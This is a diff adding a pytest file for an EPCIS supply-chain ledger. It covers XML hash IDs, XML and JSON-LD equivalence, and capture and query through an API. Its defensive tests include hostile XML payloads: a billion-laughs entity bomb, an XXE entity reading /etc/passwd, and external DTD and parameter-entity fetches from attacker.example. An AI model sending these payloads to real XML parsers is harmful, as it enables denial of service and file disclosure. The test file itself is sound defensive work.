@@ -1,0 +1,107 @@
+"""EPCIS XML (2.0 and 1.2): hash IDs equal to the reference implementation's for the XML files,
+capture through /epcis/capture stored once whichever form comes first, hostile XML refused
+before anything is expanded, and query answers in XML that read back to the same events."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from ledger.trace.epcis.hashid import document_digests, document_hash_ids, hash_id_of
+from ledger.trace.epcis.schema import check_capture
+from ledger.trace.epcis.xml_binding import InvalidXml, to_document
+
+from .helpers import login, make_client
+from .test_epcis_hash import reference_hashes
+
+XML = Path(__file__).parents[1] / "fixtures" / "epcis" / "xml"
+JSON_961 = Path(__file__).parents[1] / "fixtures" / "epcis" / "Example_9.6.1-ObjectEvent.jsonld"
+
+
+def ours(path: Path) -> list[str]:
+    return [hash_id_of(d) for d in document_digests(to_document(path.read_bytes()), xml=True)]
+
+
+@pytest.mark.parametrize("path", sorted(XML.glob("*.xml")), ids=lambda p: p.name)
+def test_hash_ids_equal_the_reference_for_the_xml_file(path):
+    ref = reference_hashes([{"xml": path.read_text()}])[0]
+    assert ref and ours(path) == [h for h, _ in ref]
+
+
+def test_xml_and_json_ld_of_one_document_are_the_same_events():
+    # GS1's XML and JSON-LD forms of example 9.6.1: the first event is the same event; the second's
+    # extension namespace is `http://ns.example.com/epcis` in the XML and `.../epcis/` in the JSON-LD,
+    # so they are two events (the reference implementation gives them two hash IDs too)
+    xml_ids, json_ids = ours(XML / "Example-ObjectEvent_9.6.1.xml"), document_hash_ids(json.loads(JSON_961.read_text()))
+    assert xml_ids[0] == json_ids[0] and xml_ids[1] != json_ids[1]
+    doc = to_document((XML / "EPCIS-1.2-with-extensions.xml").read_bytes())
+    check_capture(doc)  # valid EPCIS 2.0 JSON-LD once read
+    first, transformation = doc["epcisBody"]["eventList"]
+    assert first["eventID"] == "urn:uuid:4f1cb2f4-2b7c-4a8a-9e7e-2f2a0f5c1d11"  # from 1.2's baseExtension
+    assert first["quantityList"][0]["quantity"] == 200 and first["ilmd"] == {"tl:harvest": "2026-11-20"}
+    assert first["bizStep"] == "commissioning" and first["sourceList"][0]["type"] == "owning_party"
+    assert transformation["type"] == "TransformationEvent" and len(transformation["outputEPCList"]) == 2
+    md = doc["epcisHeader"]["epcisMasterData"]["vocabularyList"][0]["vocabularyElementList"][0]
+    assert md["children"] == ["urn:epc:id:sgln:0614141.00777.1"]
+
+
+BOMB = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
+<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>&lol3;</EventList></EPCISBody>
+</epcis:EPCISDocument>"""
+XXE = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
+<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>&x;</EventList></EPCISBody>
+</epcis:EPCISDocument>"""
+EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">
+<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>"""
+PARAMETER = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><d/>"""
+DEEP = (
+    b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">'
+    + b"<a>" * 5000
+    + b"</a>" * 5000
+    + b"</epcis:EPCISDocument>"
+)
+
+
+@pytest.mark.parametrize(
+    "data", [BOMB, XXE, EXTERNAL_DTD, PARAMETER, DEEP, b"<unclosed>", b"", b"not xml at all"],
+    ids=["billion laughs", "external entity", "external DTD", "parameter entity", "deep", "unclosed", "empty", "text"],
+)  # fmt: skip
+def test_hostile_or_malformed_xml_is_refused_unexpanded(data):
+    with pytest.raises(InvalidXml):
+        to_document(data)
+
+
+@pytest.fixture
+def api(deployment, chain_node, tmp_path, members):
+    c = make_client(deployment, chain_node, tmp_path, anchor_interval_s=0)
+    return c, {who: login(c, members[who]) for who in ("producer", "auditor")}
+
+
+def test_xml_capture_and_xml_answers(api):
+    c, h = api
+    xml = (XML / "Example-ObjectEvent_9.6.1.xml").read_bytes()
+    r = c.post("/epcis/capture", content=xml, headers=h["producer"] | {"Content-Type": "application/xml"})
+    assert r.status_code == 202, r.text
+    job = c.get(r.headers["location"], headers=h["producer"]).json()
+    assert job["success"] and job["eventIDs"] == ours(XML / "Example-ObjectEvent_9.6.1.xml")
+    # the same event as JSON-LD (GS1's own JSON form): found stored, not stored again
+    again = c.post("/v1/epcis/capture", content=JSON_961.read_bytes(), headers=h["producer"] |
+                   {"Content-Type": "application/ld+json"})  # fmt: skip
+    assert again.status_code == 201 and [e["status"] for e in again.json()["events"]] == ["duplicate", "stored"]
+    # an answer in XML reads back to the same events
+    r = c.get("/epcis/events", params={"perPage": 2}, headers=h["auditor"] | {"Accept": "application/xml"})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("application/xml")
+    back = to_document(r.content)
+    assert [e["eventID"] for e in back["epcisBody"]["eventList"]] == job["eventIDs"]
+    assert back["epcisBody"]["eventList"][1]["example:myField"] == "Example of a vendor/user extension"
+    assert [hash_id_of(d) for d in document_digests(back, xml=True)] == job["eventIDs"]
+    # hostile XML: a 400 problem, nothing stored
+    for bad in (BOMB, XXE):
+        r = c.post("/epcis/capture", content=bad, headers=h["producer"] | {"Content-Type": "application/xml"})
+        assert r.status_code == 400 and r.json()["type"] == "epcisException:ValidationException"
+    r = c.post("/epcis/capture", content=b"x", headers=h["producer"] | {"Content-Type": "text/csv"})
+    assert r.status_code == 415
